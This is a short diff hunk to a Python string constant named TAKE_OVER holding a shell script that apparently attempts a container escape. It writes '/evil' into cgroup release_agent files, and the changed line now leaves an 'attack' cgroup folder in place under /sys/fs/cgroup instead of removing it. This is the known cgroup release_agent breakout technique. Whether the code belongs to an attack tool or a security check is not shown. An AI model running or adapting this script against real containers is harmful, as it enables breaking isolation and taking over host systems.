@@ -55,7 +55,7 @@ TAKE_OVER = """
       (echo /evil >$agent) 2>/dev/null && echo AGENT
     done
     for folder in /sys/fs/cgroup /sys/fs/cgroup/*; do
-      [ -d $folder ] && mkdir $folder/attack 2>/dev/null && echo MADE && rmdir $folder/attack
+      mkdir $folder/attack 2>/dev/null && [ -e $folder/attack/cgroup.procs ] && echo MADE
     done
     mkdir /tmp/c
     for type in memory rdma cpuset; do
